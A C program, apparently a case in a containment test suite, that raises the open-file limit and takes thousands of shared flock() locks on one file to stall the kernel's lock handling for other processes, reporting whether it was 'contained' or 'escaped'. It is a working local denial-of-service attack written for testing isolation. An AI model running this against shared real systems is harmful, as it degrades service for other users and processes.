// I-67, I-34: argv[1] locks of flock() on one file, argv[2]: the kernel goes through all of them at each further one, and at each close. 14,000 hold up the end
// of those who have them for seconds, 41,000 for a minute.
#include "attack.h"

#include <sys/file.h>
#include <sys/resource.h>

int main(int argc, char **argv) {
        long n = atol(arg(argc, argv, 1));
        struct rlimit l;

        if (getrlimit(RLIMIT_NOFILE, &l) == 0) {
                l.rlim_cur = l.rlim_max;
                setrlimit(RLIMIT_NOFILE, &l);
        }
        for (long i = 0; i < n; i++) {
                int fd = open(arg(argc, argv, 2), O_RDWR | O_CREAT | O_CLOEXEC, 0600);

                if (fd < 0 || flock(fd, LOCK_SH) < 0)
                        contained("lock %ld", i);
        }
        escaped("%ld locks", n);
}
